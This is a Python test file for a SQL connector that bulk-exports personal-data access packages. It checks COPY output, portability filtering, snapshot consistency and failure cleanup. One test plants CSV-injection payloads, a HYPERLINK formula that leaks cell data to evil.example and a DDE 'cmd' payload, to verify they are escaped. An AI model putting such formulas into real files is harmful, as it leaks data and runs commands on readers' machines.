"""The sql connector's bulk read for access packages (PostgreSQL writes the JSON lines and CSV
rows with COPY) gives files that read exactly as those built record by record from `access`."""

from __future__ import annotations

from dataclasses import replace

import asyncpg
import pytest

from activities.connectors.base import ExportPart
from activities.connectors.sql_database import SqlSystemUnavailable
from activities.connectors.sql_export import shared_snapshot
from activities.packages import Parts, _part_opener, filled, portable, spool_for
from tests.sql_demo import ADA, GRACE, TRACKED, Systems
from tests.support import read_spool


def _read(spools: Parts) -> dict[tuple[str, str, str], tuple[list, list]]:
    return {key: read_spool(spool) for key, spool in spools.items()}


async def _both(systems: Systems, system: str, subject, portability: bool = False):
    by_record: Parts = {}
    async for record in systems.connectors[system].access(subject):
        fields = portable(record) if portability else record.fields
        if fields:
            spool_for(by_record, (system, record.dataset, record.category)).add(fields, record.origin_of)
    by_copy: Parts = {}
    await systems.connectors[system].export(subject, _part_opener(by_copy, system, portability))
    return _read(by_record), _read(filled(by_copy))


@pytest.mark.parametrize("system", ["crm", "analytics", "billing"])
async def test_copied_files_read_as_the_records_do(systems: Systems, system: str) -> None:
    # Values that differ in how each side writes them: fractions of a second (and none), text
    # with a line break, quotes and a comma.
    await systems.fetch("crm", "UPDATE contacts SET first_name = E'Ada \"Countess\",\\nof Lovelace', "
                               "created_at = '2026-01-02 03:04:05.12+01' WHERE lower(email) = 'ada@example.com'")
    await systems.fetch("analytics", "UPDATE page_events SET occurred_at = date_trunc('second', occurred_at) "
                                     "WHERE id % 2 = 0")
    records, copied = await _both(systems, system, ADA)
    assert records and set(copied) == set(records)
    assert copied == records
    if system == "crm":
        account = copied[("crm", "contacts", "account")][0]
        assert 'Ada "Countess",\nof Lovelace' in [r.get("first_name") for r in account]
        assert "2026-01-02T02:04:05.12+00:00" in [r.get("created_at") for r in account]


async def test_portability_leaves_out_what_we_derived_or_inferred(systems: Systems) -> None:
    records, copied = await _both(systems, "crm", ADA, portability=True)
    assert copied == records
    # One record a row and category, whatever the origins of its columns.
    contacts = await systems.fetch("crm", "SELECT id FROM contacts WHERE lower(email) = 'ada@example.com'")
    assert len(copied[("crm", "contacts", "marketing")][0]) == len(contacts)
    columns = {column for data, _ in copied.values() for record in data for column in record}
    # Observed data (when she signed up and was last seen) is hers to take along (WP242 rev.01);
    # staff notes and the CRM's engagement segment are ours.
    assert {"email", "first_name", "created_at", "last_seen_at", "transcript", "started_at"} <= columns
    assert not columns & {"notes", "engagement_segment"}


async def test_a_subject_with_nothing_in_a_system_gets_no_files(systems: Systems) -> None:
    records, copied = await _both(systems, "crm", replace(GRACE, request_id="r-none", email="nobody@example.com"))
    assert records == copied == {}


async def test_formulas_in_a_subjects_data_do_not_run_when_the_csv_is_opened(systems: Systems) -> None:
    """CSV injection (issue 14, item 10): text someone typed into a CRM field, written by COPY
    and record by record alike, opens in a spreadsheet as text; a credit note's negative amount
    stays a number, and the JSON keeps every value exactly."""
    attack = '=HYPERLINK("https://evil.example/?"&A2,"Click")'
    await systems.fetch("crm", "UPDATE contacts SET first_name = $1, last_name = '@SUM(1+1)', "
                               "notes = E'\\t-2+3+cmd|'' /C calc''!A0', phone = '+32 470 12 34 56' "
                               "WHERE lower(email) = 'ada@example.com'", attack)
    await systems.fetch("billing", "UPDATE invoices SET net_amount = -12.50 WHERE customer_id IN "
                                   "(SELECT id FROM customers WHERE lower(email) = 'ada@example.com')")
    for system in ("crm", "billing"):
        records, copied = await _both(systems, system, ADA)
        assert copied == records
    records, copied = await _both(systems, "crm", ADA)
    data, rows = copied[("crm", "contacts", "account")]
    header, first = rows[0], rows[1]
    cell = dict(zip(header, first, strict=True))
    assert cell["first_name"] == "'" + attack
    assert cell["last_name"] == "'@SUM(1+1)"
    assert cell["phone"] == "'+32 470 12 34 56"
    assert data[0]["first_name"] == attack and data[0]["last_name"] == "@SUM(1+1)"
    notes = [dict(zip(part_rows[0], r, strict=True))["notes"] for _, part_rows in copied.values() for r in part_rows[1:]
             if "notes" in part_rows[0]]
    assert notes and all(n.startswith("'\t-2+3") for n in notes if n)
    _, copied_billing = await _both(systems, "billing", ADA)
    invoices = next(rows for key, (_, rows) in copied_billing.items() if key[1] == "invoices")
    amounts = [dict(zip(invoices[0], r, strict=True))["net_amount"] for r in invoices[1:]]
    assert "-12.50" in amounts and all(not a.startswith("'") for a in amounts)


async def _tracked_events(conn: asyncpg.Connection) -> int:
    return await conn.fetchval("SELECT count(*) FROM page_events WHERE user_id = "
                               "(SELECT user_id FROM users WHERE email = 'tracked@example.com')")


async def _change_tracked_events(systems: Systems) -> None:
    """Another transaction adds an event of the subject's and removes one, and commits."""
    await systems.fetch("analytics", """
        WITH added AS (INSERT INTO page_events (user_id, url, occurred_at)
                       SELECT user_id, 'https://onetagger.com/added-meanwhile', now() FROM users
                       WHERE email = 'tracked@example.com')
        DELETE FROM page_events WHERE id = (SELECT min(id) FROM page_events WHERE user_id =
                                            (SELECT user_id FROM users WHERE email = 'tracked@example.com'))""")


async def test_the_two_connections_of_an_export_read_one_snapshot(systems: Systems) -> None:
    """The second connection takes the first one's snapshot: what another transaction commits
    after the snapshot was taken is in neither, however late the second one starts reading."""
    url = systems.server.url(systems.names["analytics"])
    first, second = await asyncpg.connect(url), await asyncpg.connect(url)
    try:
        before = await _tracked_events(first)
        async with shared_snapshot(first, second):
            await _change_tracked_events(systems)
            assert await _tracked_events(first) == await _tracked_events(second) == before
            assert not await second.fetchval("SELECT count(*) FROM page_events WHERE url LIKE '%added-meanwhile'")
        assert await _tracked_events(second) == before  # the change was real: one in, one out
        assert await second.fetchval("SELECT count(*) FROM page_events WHERE url LIKE '%added-meanwhile'") == 1
    finally:
        await first.close()
        await second.close()


async def test_rows_committed_while_an_export_runs_are_in_none_of_its_files(systems: Systems) -> None:
    """An event added (and another removed) once the export's first COPY has begun: every part's
    JSON and CSV hold the same records, those of the moment the export began."""
    expected = _read(await _export(systems, TRACKED))
    changed = False

    class ChangingWhileCopying:
        def __init__(self, part: ExportPart) -> None:
            self.part = part

        async def json_lines(self, chunk: bytes) -> None:
            nonlocal changed
            if not changed:
                changed = True
                await _change_tracked_events(systems)
            await self.part.json_lines(chunk)

        async def csv_rows(self, chunk: bytes) -> None:
            await self.part.csv_rows(chunk)

    parts: Parts = {}
    opener = _part_opener(parts, "analytics", False)

    def part(dataset: str, category: str, origin_of):
        opened = opener(dataset, category, origin_of)
        return opened and (ChangingWhileCopying(opened[0]), opened[1])

    await systems.connectors["analytics"].export(TRACKED, part)
    assert changed
    copied = _read(filled(parts))
    assert copied == expected
    for data, rows in copied.values():
        assert len(data) == len(rows) - 1 and "added-meanwhile" not in repr(data) + repr(rows)
    events, _ = _read(await _export(systems, TRACKED))[("analytics", "page_events", "cookies_analytics")]
    assert "added-meanwhile" in repr(events)  # the next export reads it


async def test_a_copy_that_fails_stops_the_other_and_leaves_the_connector_usable(systems: Systems) -> None:
    """The CSV side failing (a full disk) ends the JSON COPY running beside it; the error is the
    task's (the database counts as unavailable, so the activity retries); the next export works."""
    parts: Parts = {}
    opener = _part_opener(parts, "analytics", False)

    class FullDisk:
        def __init__(self, part: ExportPart) -> None:
            self.part = part

        async def json_lines(self, chunk: bytes) -> None:
            await self.part.json_lines(chunk)

        async def csv_rows(self, chunk: bytes) -> None:
            raise OSError(28, "No space left on device")

    def part(dataset: str, category: str, origin_of):
        opened = opener(dataset, category, origin_of)
        return opened and (FullDisk(opened[0]), opened[1])

    with pytest.raises(SqlSystemUnavailable, match="database unavailable"):
        await systems.connectors["analytics"].export(TRACKED, part)
    for spool in parts.values():
        spool.close()
    records, copied = await _both(systems, "analytics", TRACKED)
    assert copied == records and copied


async def _export(systems: Systems, subject) -> Parts:
    parts: Parts = {}
    await systems.connectors["analytics"].export(subject, _part_opener(parts, "analytics", False))
    return filled(parts)
